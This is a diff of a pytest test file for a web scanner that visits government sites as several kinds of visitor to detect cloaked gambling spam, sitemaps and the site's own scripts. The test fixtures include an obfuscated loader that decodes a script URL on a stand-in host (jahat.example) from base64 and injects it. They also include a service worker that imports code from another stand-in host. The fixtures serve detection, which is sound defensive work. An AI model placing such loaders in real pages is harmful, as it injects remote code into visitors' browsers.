@@ -15,7 +15,7 @@ import pytest
 from msgspec.structs import replace
 
 from cyberscan.config.policy import default_policy
-from cyberscan.model.facts.content import Linked, LinkedPage, Visit, Visits
+from cyberscan.model.facts.content import Linked, LinkedPage, OwnScript, Visit, Visits
 from cyberscan.model.inventory import Host, Inventory
 from cyberscan.model.look import Absent, Failed, Look, Negative, Ok, Reason
 from cyberscan.model.subject import Family, Kind, Subject
@@ -23,8 +23,11 @@ from cyberscan.net.base import NetError, Silent
 from cyberscan.net.resolver import Resolver
 from cyberscan.net.session import Fetched
 from cyberscan.net.sessions import Doors
-from cyberscan.observe.content import visits
-from cyberscan.observe.content.visits import LINKED_REDIRECTS, MOST, PROBE, REDIRECTS
+from cyberscan.observe.content import linked as linked_pages
+from cyberscan.observe.content import own_scripts, visiting, visits
+from cyberscan.observe.content.choice import MOST_CHOSEN
+from cyberscan.observe.content.visits import MOST, PROBE, REDIRECTS
+from cyberscan.parse import matter_css, matter_files
 from cyberscan.tables.visitors import AGAIN, BOT, BROWSER, MOBILE, REFERER
 from tests.support.loopback import Asked, LoopbackSession
 from tests.support.net import (
@@ -44,6 +47,7 @@ pytestmark = pytest.mark.anyio
 
 ORDER = ["browser", "again", "referer", "mobile", "bot"]
 NEWS = f"{HTTPS}berita/bupati-buka-pasar-murah-desa"
+SITEMAP = f"{HTTPS}sitemap.xml"
 PAGE = """<!doctype html><html lang=id><title>Kabupaten Contoh</title>
 <p>Selamat datang.</p><a href="/berita/bupati-buka-pasar-murah-desa">Bupati buka pasar</a>"""
 SPAM = """<!doctype html><title>Slot Gacor</title><h1>Slot gacor maxwin</h1>
@@ -128,8 +132,18 @@ async def test_every_visitor_gets_the_same_page_of_an_honest_site() -> None:
     assert {visit.urls for visit in found.values()} == {(HTTPS,)}
     assert {visit.text for visit in found.values()} == {"Selamat datang. Bupati buka pasar"}
     assert all(visit.reason is None for visit in found.values())
-    # Five visits and one article.
-    assert [request.url for request in asked.asked] == [HTTPS, HTTPS, NEWS, HTTPS, HTTPS, HTTPS]
+    # Five visits, the sitemap, and three to one article.
+    assert [(who(request.headers), request.url) for request in asked.asked] == [
+        ("browser", HTTPS),
+        ("browser", HTTPS),
+        ("browser", SITEMAP),
+        ("referer", NEWS),
+        ("referer", HTTPS),
+        ("mobile", HTTPS),
+        ("mobile", NEWS),
+        ("bot", HTTPS),
+        ("bot", NEWS),
+    ]
 
 
 @pytest.mark.parametrize("profile", ["bot", "referer", "mobile"])
@@ -218,7 +232,7 @@ async def test_nobody_comes_after_one_who_was_turned_away(blocked: Fetched) -> N
         None, None, None, Reason.RATE_LIMITED, Reason.RATE_LIMITED,
     ]  # fmt: skip
     assert found["mobile"] == Visit(profile="mobile", reason=Reason.RATE_LIMITED)
-    assert len(asked.asked) == 4
+    assert len(asked.asked) == 5  # nor does anybody else ask for the article
 
 
 async def test_after_a_429_in_the_middle_no_page_is_followed_either() -> None:
@@ -234,7 +248,40 @@ async def test_a_linked_page_that_says_429_is_the_last() -> None:
     asked = session(pages={NEWS: answer(NEWS, status=429)})
     found = await visited(asked)
     assert found["referer"].reason is Reason.RATE_LIMITED
+    assert len(asked.asked) == 4
+
+
+async def test_a_sitemap_that_says_429_is_the_last() -> None:
+    asked = session(pages={SITEMAP: answer(SITEMAP, status=429)})
+    first, second = await looks(asked)
+    assert isinstance(first, Ok)
+    assert isinstance(second, Failed)
+    assert second.reason is Reason.RATE_LIMITED
     assert len(asked.asked) == 3
+
+
+@pytest.mark.parametrize(
+    "given",
+    [
+        answer(HTTPS, status=403),
+        answer(HTTPS, status=404),
+        answer(HTTPS, "<!doctype html><p>Tidak ada"),
+        answer(HTTPS, "<urlset"),
+        answer(HTTPS, to=JUDI, status=302),
+        Silent("quiet"),
+    ],
+)
+async def test_a_sitemap_that_is_none_takes_nothing_away(given: Answer) -> None:
+    pages = await linked(session(pages={SITEMAP: given}))
+    assert [page.exchange.url for page in pages] == [NEWS]
+
+
+async def test_a_page_that_only_the_sitemap_names_is_visited() -> None:
+    there = f"{HTTPS}img/galeri/jp/"
+    listed = f"<urlset><url><loc>{HTTPS}</loc></url><url><loc>{there}</loc></url></urlset>"
+    given = {SITEMAP: answer(SITEMAP, listed, kind="text/xml"), there: answer(there, SPAM)}
+    pages = await linked(session(pages=given))
+    assert [(page.why, page.exchange.url) for page in pages] == [("deep", there), ("news", NEWS)]
 
 
 @pytest.mark.parametrize(
@@ -339,7 +386,7 @@ async def test_redirects_without_an_end_have_an_end() -> None:
 async def test_a_visit_that_never_ends_does_not_cost_the_others(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
-    monkeypatch.setattr(visits, "SECONDS", 0.05)
+    monkeypatch.setattr(visiting, "SECONDS", 0.05)
 
     class Slow(Varying):
         async def fetch(self, url: str, **more: Any) -> Fetched:
@@ -412,8 +459,8 @@ async def test_a_deep_page_and_an_article_are_followed() -> None:
     assert pages[0].matter.title == "Slot Gacor"
     assert pages[0].text == "Slot gacor maxwin daftar"
     # As somebody who comes from a search.
-    by = {request.url: who(request.headers) for request in asked.asked}
-    assert by[deep] == by[NEWS] == "referer"
+    first = {request.url: who(request.headers) for request in reversed(asked.asked)}
+    assert first[deep] == first[NEWS] == "referer"
     assert {page.profile for page in pages} == {"referer"}
 
 
@@ -461,6 +508,192 @@ async def test_a_linked_page_is_followed_once() -> None:
     assert pages[0].exchange.url == there
 
 
+# The same pages as somebody else
+
+
+def others(page: LinkedPage) -> dict[str, Visit]:
+    return {visit.profile: visit for visit in page.others}
+
+
+async def test_a_telephone_and_a_robot_get_the_linked_page_too() -> None:
+    asked = session()
+    (page,) = await linked(asked)
+    assert [visit.profile for visit in page.others] == ["mobile", "bot"]
+    assert {visit.matter for visit in page.others} == {page.matter}
+
+
+@pytest.mark.parametrize("profile", ["referer", "mobile", "bot"])
+async def test_a_plain_browser_asks_only_where_somebody_got_another_page(profile: str) -> None:
+    asked = session(to={(profile, NEWS): answer(NEWS, SPAM)})
+    (page,) = await linked(asked)
+    assert [visit.profile for visit in page.others] == ["browser", "mobile", "bot"]
+    found: dict[str, LinkedPage | Visit] = {**others(page), "referer": page}
+    titles = {name: seen.matter.title for name, seen in found.items() if seen.matter}
+    assert {name for name, said in titles.items() if said == "Slot Gacor"} == {profile}
+    assert [request.url for request in asked.asked].count(NEWS) == 4
+
+
+@pytest.mark.parametrize("profile", ["mobile", "bot"])
+async def test_a_linked_page_that_sends_some_away_is_seen_so(profile: str) -> None:
+    (page,) = await linked(session(to={(profile, NEWS): answer(NEWS, to=JUDI, status=302)}))
+    assert others(page)[profile].next_url == JUDI
+    assert others(page)["browser"].next_url == ""
+
+
+async def test_a_robot_that_is_turned_away_from_a_linked_page_costs_no_comparison() -> None:
+    asked = session(to={("bot", NEWS): answer(NEWS, status=403)})
+    (page,) = await linked(asked)
+    assert [visit.profile for visit in page.others] == ["mobile", "bot"]
+
+
+async def test_a_linked_page_that_was_not_seen_is_asked_for_once() -> None:
+    asked = session(pages={NEWS: Silent("quiet")})
+    await looks(asked)
+    assert [request.url for request in asked.asked].count(NEWS) == 1
+
+
+async def test_tokens_and_times_of_a_linked_page_are_no_difference() -> None:
+    turns = [
+        answer(NEWS, f"<title>Pasar</title><p>Jam 10:2{n}<input type=hidden value={n}a9f>")
+        for n in range(4)
+    ]
+    asked = session(turns={NEWS: turns})
+    (page,) = await linked(asked)
+    assert [visit.profile for visit in page.others] == ["mobile", "bot"]
+
+
+# Script files of the site's own
+
+SCRIPT = f"{HTTPS}js/situs.js"
+LOADER = "var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9qYWhhdC5leGFtcGxlL2E=');"
+
+
+def taking(*paths: str) -> Fetched:
+    return answer(HTTPS, "".join(f"<script src='{path}'></script>" for path in paths) + PAGE)
+
+
+async def scripts(asked: LoopbackSession) -> tuple[OwnScript, ...]:
+    look, _ = await looks(asked)
+    assert isinstance(look, Ok), look
+    assert isinstance(look.fact, Visits), look
+    return look.fact.scripts
+
+
+async def test_a_script_of_the_sites_own_is_read_and_not_kept() -> None:
+    code = answer(SCRIPT, LOADER, kind="text/javascript")
+    (found,) = await scripts(session(pages={HTTPS: taking("/js/situs.js"), SCRIPT: code}))
+    assert (found.kind, found.exchange.url) == ("script", SCRIPT)
+    assert found.matter is not None
+    (read,) = found.matter.codes
+    assert read.selector == SCRIPT
+    assert read.hosts == ("jahat.example",)
+
+
+async def test_a_worker_is_a_script_of_the_sites_own() -> None:
+    there = f"{HTTPS}sw.js"
+    front = answer(HTTPS, f"<script>navigator.serviceWorker.register('/sw.js')</script>{PAGE}")
+    code = answer(there, "importScripts('https://dorong.example/a.js')", kind="text/javascript")
+    (found,) = await scripts(session(pages={HTTPS: front, there: code}))
+    assert found.kind == "worker"
+    assert found.matter is not None
+    assert found.matter.codes[0].hosts == ("dorong.example",)
+
+
+@pytest.mark.parametrize(
+    "given",
+    [
+        answer(SCRIPT, "<!doctype html><title>Tidak ada", status=404),
+        answer(SCRIPT, "<!doctype html><title>Beranda"),
+        answer(SCRIPT, to=f"{HTTPS}lain.js", status=302),
+        answer(SCRIPT, LOADER, status=500, kind="text/javascript"),
+    ],
+)
+async def test_what_is_no_script_has_nothing_to_read(given: Fetched) -> None:
+    (found,) = await scripts(session(pages={HTTPS: taking("/js/situs.js"), SCRIPT: given}))
+    assert found.matter is None
+
+
+async def test_files_are_not_asked_for_when_the_time_is_for_visitors() -> None:
+    asked = session(pages={HTTPS: taking("/js/situs.js")})
+    asked.until = anyio.current_time() + own_scripts.RESERVED - 1
+    assert await scripts(asked) == ()
+    assert SCRIPT not in {request.url for request in asked.asked}
+    assert "bot" in {who(request.headers) for request in asked.asked}
+
+
+async def test_a_script_that_does_not_answer_is_left_out() -> None:
+    pages = {HTTPS: taking("/js/situs.js"), SCRIPT: Silent("quiet")}
+    asked = session(pages=pages)
+    assert await scripts(asked) == ()
+    assert title((await visited(session(pages=pages)))["bot"]) == "Kabupaten Contoh"
+
+
+async def test_scripts_of_others_are_not_asked_for_and_of_ones_own_three() -> None:
+    paths = [f"/js/a{n}.js" for n in range(6)]
+    asked = session(pages={HTTPS: taking("https://cdn.example/x.js", *paths)})
+    await looks(asked)
+    urls = [request.url for request in asked.asked if request.url.endswith(".js")]
+    assert len(urls) == matter_files.MOST
+    assert all(url.startswith(HTTPS) for url in urls)
+
+
+@pytest.mark.parametrize(
+    ("to", "followed"),
+    [
+        ("/r/ke?x=1", True),
+        ("/keluar", False),  # changes something
+        ("/", False),
+        ("/b", False),  # itself
+        (JUDI, False),  # another's
+        ("/r?token=abc", False),  # not kept as it was written
+    ],
+)
+async def test_where_a_linked_page_moves_its_visitors_to_is_looked_at(
+    to: str, *, followed: bool
+) -> None:
+    page, there = f"{HTTPS}b", f"{HTTPS}r/ke?x=1"
+    given = {
+        HTTPS: answer(HTTPS, "<a href=/b>Siaran</a>"),
+        page: answer(page, f"<meta http-equiv=refresh content='8; url={to}'><p>Siaran pers"),
+        there: answer(there, f"<meta http-equiv=refresh content='0; url={JUDI}'>"),
+    }
+    asked = session(pages=given)
+    pages = await linked(asked)
+    assert [one.exchange.url for one in pages] == [page, *([there] if followed else [])]
+    assert [request.url for request in asked.asked].count(there) == followed
+    assert JUDI not in {request.url for request in asked.asked}
+
+
+LAPOR = f"{HTTPS}lapor"
+FORM = "<form><input name=sandi type=password></form>"
+
+
+async def test_a_script_that_only_a_linked_page_takes_is_read_for_that_page() -> None:
+    both, own = f"{HTTPS}js/situs.js", f"{HTTPS}js/validasi.js"
+    tags = "<script src=/js/situs.js></script>"
+    given = {
+        HTTPS: answer(HTTPS, f"{tags}<a href=/lapor>Lapor</a>"),
+        LAPOR: answer(LAPOR, f"{tags}<script src=/js/validasi.js></script>{FORM}"),
+        both: answer(both, "", kind="text/javascript"),
+        own: answer(own, LOADER, kind="text/javascript"),
+    }
+    asked = session(pages=given)
+    found = await scripts(asked)
+    assert [(one.page, one.exchange.url) for one in found] == [("", both), (LAPOR, own)]
+    assert [request.url for request in asked.asked].count(both) == 1
+
+
+async def test_of_linked_pages_two_scripts_are_asked_for() -> None:
+    pages = [f"{HTTPS}{name}" for name in ("a", "b", "c")]
+    given = {HTTPS: answer(HTTPS, "".join(f"<a href={url}>Lihat</a>" for url in pages))}
+    for url in pages:
+        given |= {url: answer(url, f"<script src={url}-1.js></script><script src={url}-2.js>")}
+    asked = session(pages=given)
+    await looks(asked)
+    urls = [request.url for request in asked.asked if request.url.endswith(".js")]
+    assert urls == [f"{page}-2.js" for page in pages[: own_scripts.MOST_LINKED]]
+
+
 # What it sends
 
 
@@ -470,7 +703,9 @@ def test_the_probe_runs_where_content_is_authorised_and_nowhere_else() -> None:
 
 
 def test_the_budget_is_what_the_visits_may_come_to() -> None:
-    assert MOST == 5 * (REDIRECTS + 1) + 2 * (LINKED_REDIRECTS + 1) + 1
+    of_pages = (MOST_CHOSEN * 4 + 1) * (linked_pages.REDIRECTS + 1)
+    files = matter_files.MOST + matter_css.MOST + own_scripts.MOST_LINKED
+    assert 5 * (REDIRECTS + 1) + of_pages + files + 1 + 1 == MOST
 
 
 def test_visitors_say_what_they_are_taken_for() -> None:
@@ -582,7 +817,8 @@ async def test_visits_over_real_sockets() -> None:
     assert isinstance(beside.fact, Linked)
     assert len(beside.fact.pages) == 1
     assert len(connections) == 1
-    assert len(heard) == 6
+    # Five visits, the sitemap, three to the article, and a browser's, for the robot got another.
+    assert len(heard) == 10
     # Whoever looks like a browser still says who is asking.
     assert {fields["from"] for fields in heard} == {OPERATOR.contact}
     assert not any("cyberscan" in fields["user-agent"] for fields in heard)
